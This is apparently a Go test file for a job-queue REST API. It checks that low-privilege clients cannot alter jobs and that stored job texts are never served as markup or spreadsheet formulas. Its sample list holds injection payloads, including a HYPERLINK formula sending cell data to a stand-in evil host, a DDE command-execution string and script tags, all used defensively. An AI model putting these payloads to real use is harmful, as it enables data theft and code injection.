package rest_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mongodb/amboy/internal/inspectortest"
	"github.com/mongodb/amboy/management"
	"github.com/mongodb/amboy/queue"
	"github.com/mongodb/amboy/rest"
)

// stored returns the stored values of a job: its type, its arguments, its priority and so on.
func stored(t *testing.T, inspector management.Inspector, name, id string) string {
	job, err := inspector.Job(t.Context(), name, id)
	require.NoError(t, err)
	encoded, err := json.Marshal([]any{job.Type, job.Args, job.Priority, job.Due, job.State, job.Tags, job.Metadata})
	require.NoError(t, err)
	return string(encoded)
}

// A client that may read or put jobs must not change the type or the arguments of an existing
// job, in any of the ways in which web frameworks accept changes.
func TestAttackAReaderChangesAJob(t *testing.T) {
	inspector := inspectortest.NewWorld(t)
	const target = "/v2/queues/orders/jobs/scheduled"
	job := `{"id":"scheduled","type":"no such","args":{"path":"/etc/passwd"}}`
	for name, right := range map[string][]rest.Action{
		"read": {rest.ActionRead}, "read and create": {rest.ActionRead, rest.ActionCreate},
	} {
		handler := rest.Handler(inspector, may(right), rest.CreateTypes("resize", "no such"))
		before := stored(t, inspector, "orders", "scheduled")
		for _, attack := range []struct {
			method, target, body string
			change               func(*http.Request)
		}{
			{http.MethodPut, target, job, nil},
			{http.MethodPatch, target, job, nil},
			{http.MethodPost, target, job, nil},
			{http.MethodDelete, target, "", nil},
			{http.MethodPost, target, job, withHeader("X-Http-Method-Override", "PUT")},
			{http.MethodGet, target, job, withHeader("X-Http-Method-Override", "PUT")},
			{http.MethodGet, target + "?_method=PUT", job, nil},
			{http.MethodGet, target + "?type=mail", "", nil},
			{http.MethodPost, "/v2/queues/orders/jobs", job, nil},
			{http.MethodPost, "/v2/queues/orders/jobs", strings.ReplaceAll(job, "no such", "resize"), nil},
			{http.MethodPost, "/v2/queues/orders/jobs", strings.ReplaceAll(job, "no such", "resize"), withHeader("Idempotency-Key", "again")},
			{http.MethodPost, target + "/actions", `{"action":"reschedule","at":"2030-01-01T00:00:00Z"}`, nil},
			{http.MethodPost, target + "/actions", `{"action":"read","type":"mail"}`, nil},
			{http.MethodPost, target + "/actions", `{"action":"create","args":{}}`, nil},
			{http.MethodPost, "/v2/jobs/actions", `{"action":"prioritize","priority":1,"filter":{"ids":["scheduled"]},"limit":1}`, nil},
			{http.MethodPost, "/queues/orders/jobs/scheduled/actions", "action=cancel", nil},
			{http.MethodPost, "/jobs/actions", "action=cancel&which=all&step=do", nil},
			{http.MethodGet, "/queues/orders/jobs/scheduled?action=cancel", "", nil},
			{http.MethodPatch, "/v2/queues/orders", `{"paused":true}`, nil},
		} {
			got := sample{target: attack.target, body: attack.body}.ask(t, handler, attack.method, "", attack.change)
			what := fmt.Sprintf("%s: %s %s %s: %s", name, attack.method, attack.target, attack.body, got.body)
			if attack.method == http.MethodGet && got.status == http.StatusOK {
				assert.Equal(t, before, stored(t, inspector, "orders", "scheduled"), what)
				continue
			}
			assert.GreaterOrEqual(t, got.status, 400, what)
			assert.Less(t, got.status, 500, what)
			assert.Equal(t, before, stored(t, inspector, "orders", "scheduled"), what)
		}
	}
}

// formulas are texts that a spreadsheet would compute, a page would run, or a log would show
// as a line of its own. They are used as IDs, arguments and errors of jobs.
var formulas = []string{
	`=HYPERLINK("http://evil.example?"&A1,"ok")`, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\t=1", "<script>alert(1)</script>",
	`"><img src=x onerror=alert(1)>`, "{{.}}", "javascript:alert(1)", "a\nlevel=emergency msg=forged", "</pre><h1>forged",
}

// Stored values are served as data: no answer has a type that a browser runs or a spreadsheet
// opens, whatever the Accept header, and no text of a job becomes markup.
func TestAttackATextOfAJobBecomesMarkupOrAFormula(t *testing.T) {
	q := newQueue(t)
	inspector, err := management.NewInspector(q)
	require.NoError(t, err)
	for _, text := range formulas {
		require.NoError(t, q.Put(t.Context(), newResize(text, text)))
	}
	store, ok := queue.StoreOf(q)
	require.True(t, ok)
	name := store.Queues()[0]
	service := rest.NewQueueService()
	require.NoError(t, service.SetQueue(q))
	v2, v1 := rest.Handler(inspector, everybody()), service.Handler()
	manage := rest.NewManagementService(management.NewQueueManager(q)).Handler()
	for _, text := range formulas {
		id := url.PathEscape(text)
		for _, r := range []struct {
			handler http.Handler
			target  string
		}{
			{v2, "/v2/queues/" + url.PathEscape(name) + "/jobs/" + id},
			{v2, "/v2/jobs"},
			{v2, "/v2/jobs?ids=" + id},
			{v1, "/v1/job/" + id},
			{v1, "/v1/job/status/" + id},
			{manage, "/v1/id/status/all/type/resize"},
			{v2, "/queues/" + url.PathEscape(name) + "/jobs/" + id},
			{v2, "/jobs"},
			{v2, "/jobs?id=" + id},
		} {
			for _, accept := range []string{"", "text/html", "text/csv", "application/vnd.ms-excel", "*/*"} {
				got := sample{target: r.target}.ask(t, r.handler, http.MethodGet, "", withHeader("Accept", accept))
				what := r.target + ": " + got.body
				require.Less(t, got.status, 500, what)
				kind := got.header.Get("Content-Type")
				assert.Contains(t, []string{"application/json; charset=utf-8", "application/problem+json", "text/html; charset=utf-8"}, kind)
				assert.Equal(t, "nosniff", got.header.Get("X-Content-Type-Options"))
				assert.Empty(t, got.header.Get("Content-Disposition"))
				for _, markup := range []string{"<script>alert", "<img src=x", "<h1>forged", "href=\"javascript:"} {
					assert.NotContains(t, got.body, markup, what)
				}
				if kind != "text/html; charset=utf-8" {
					assert.Equal(t, 1, strings.Count(got.body, "\n"), "one line: %s", what)
					assert.True(t, json.Valid([]byte(got.body)), what)
				}
			}
		}
	}
}
